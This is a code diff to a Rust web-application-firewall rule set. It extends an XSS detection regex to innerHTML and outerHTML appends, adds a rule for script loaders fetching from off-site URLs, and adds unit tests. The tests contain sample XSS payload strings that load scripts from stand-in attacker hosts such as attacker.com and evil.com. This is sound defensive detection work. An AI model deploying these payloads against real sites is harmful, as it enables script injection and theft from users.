@@ -106,7 +106,7 @@ pub(super) fn rules() -> Vec<RuleDef> {
             t,
             XSS,
             Regex(
-                r##"\b(?:alert|prompt|confirm)\s*(?:\(\s*(?:\d|document\b|window\b|this\b|top\b|self\b|location\b|/|['"]\s*xss|string\s*\.|atob\b|`)|`)|\bdocument\s*\.\s*(?:cookie\b|domain\b|write(?:ln)?\s*\()|\bstring\s*\.\s*fromcharcode\s*\(|\$\{\s*(?:alert|prompt|confirm|eval)\s*(?:\(|`)|\beval\s*\(\s*(?:atob|unescape|decodeuri\w*|string\b|location|name\b|window|this|`)|\.\s*innerhtml\s*=|\bwindow\s*\[\s*['"`]|\btop\s*\[\s*['"`]\w+['"`]\s*\+"##,
+                r##"\b(?:alert|prompt|confirm)\s*(?:\(\s*(?:\d|document\b|window\b|this\b|top\b|self\b|location\b|/|['"]\s*xss|string\s*\.|atob\b|`)|`)|\bdocument\s*\.\s*(?:cookie\b|domain\b|write(?:ln)?\s*\()|\bstring\s*\.\s*fromcharcode\s*\(|\$\{\s*(?:alert|prompt|confirm|eval)\s*(?:\(|`)|\beval\s*\(\s*(?:atob|unescape|decodeuri\w*|string\b|location|name\b|window|this|`)|\.\s*(?:inner|outer)html\s*\+?=|\bwindow\s*\[\s*['"`]|\btop\s*\[\s*['"`]\w+['"`]\s*\+"##,
             ),
             "XSS: script sink",
         ),
@@ -181,6 +181,20 @@ pub(super) fn rules() -> Vec<RuleDef> {
             "XSS: stylesheet or form that loads from or posts to another site",
         ),
         rule(
+            941290,
+            Xss,
+            2,
+            Critical,
+            t,
+            XSS,
+            // A script loader handed an absolute off-site URL: `importScripts(`,
+            // `$.getScript(`, a worker, a dynamic `import(`.
+            Regex(
+                r##"\b(?:importscripts|getscript|sharedworker|worker|import)\s*\(\s*['"`](?:https?:)?//"##,
+            ),
+            "XSS: script loaded from another site",
+        ),
+        rule(
             941230,
             Xss,
             2,
@@ -198,6 +212,19 @@ pub(super) fn rules() -> Vec<RuleDef> {
 #[cfg(test)]
 mod tests {
     use crate::waf::rules::fires;
+
+    #[test]
+    fn html_appended_to_the_dom_and_off_site_script_loaders_fire() {
+        assert!(fires(941210, "ws.onmessage = (e) => { document.body.innerHTML += e.data; }"));
+        assert!(fires(941210, "el.outerHTML = x"));
+        assert!(!fires(941210, "the innerHTML property"));
+        assert!(fires(941290, "importScripts('https://attacker.com/sw.js');"));
+        assert!(fires(941290, "onload=x=>$.getScript('//brutelogic.com.br/2.js')"));
+        assert!(fires(941290, "new SharedWorker('//evil.com/worker.js')"));
+        assert!(!fires(941290, "import('./module.js')"));
+        assert!(!fires(941290, "new Worker('worker.js')"));
+        assert!(!fires(941290, "import (see https://example.com)"));
+    }
 
     #[test]
     fn script_gadgets_fire_but_code_and_prose_do_not() {
